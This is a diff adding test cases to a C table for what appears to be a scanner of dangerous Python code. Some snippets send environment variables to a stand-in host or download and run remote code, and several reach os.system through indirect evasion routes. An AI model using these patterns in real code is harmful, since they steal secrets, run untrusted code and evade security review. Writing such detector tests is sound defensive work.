@@ -146,6 +146,40 @@ static const struct {
      true},
     {"the environment bound to a name and posted by keyword",
      "import os, requests\ne = os.environ\nrequests.post('http://x/', json=e)\n", true},
+
+    /* the classes of the fourth blind round */
+    {"a subclass of bdb.Bdb running a downloaded string",
+     "import bdb, urllib.request\nclass Q(bdb.Bdb):\n    pass\n"
+     "Q().run(urllib.request.urlopen('http://x/').read().decode())\n",
+     true},
+    {"timeit of the program's own function",
+     "import timeit\ndef work():\n    return sum(range(100))\n"
+     "print(timeit.timeit(work, number=10))\n",
+     false},
+    {"timeit of a name read at run time",
+     "import timeit, sys\nstmt = sys.stdin.read()\ntimeit.timeit(stmt, number=1)\n", true},
+    {"the environment as a class attribute read through self, then sent",
+     "import os, socket\nclass S:\n    data = os.environb\n    def dump(self):\n"
+     "        return repr(self.data.items()).encode()\n"
+     "socket.create_connection(('x', 1)).sendall(S().dump())\n",
+     true},
+    {"os handed to a format-field lookup",
+     "import os, string\nf, _ = string.Formatter().get_field('0.system', (os,), {})\nf('id')\n",
+     true},
+    {"os as a keyword argument", "import os\ndef run(mod):\n    mod.system('id')\nrun(mod=os)\n",
+     true},
+    {"subprocess in a dict", "import subprocess\nTOOLS = {'p': subprocess}\n", true},
+    {"os printed, tested, and patched in a test",
+     "import os, types\nfrom unittest import mock\nprint(os, isinstance(os, types.ModuleType))\n"
+     "with mock.patch.object(os, 'getcwd', return_value='/x'):\n    pass\n",
+     false},
+    {"math handed on", "import math\nfuncs = [math]\nprint(getattr(funcs[0], 'sqrt')(4))\n", false},
+    {"a module found among gc's objects",
+     "import gc\nm = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'posix'][0]\n"
+     "m.system('id')\n",
+     true},
+    {"the event loop's subprocess_shell",
+     "import asyncio\nasync def f(loop, P):\n    await loop.subprocess_shell(P, 'id')\n", true},
 };
 
 static enum severity worst(const char *code, struct findings *f)
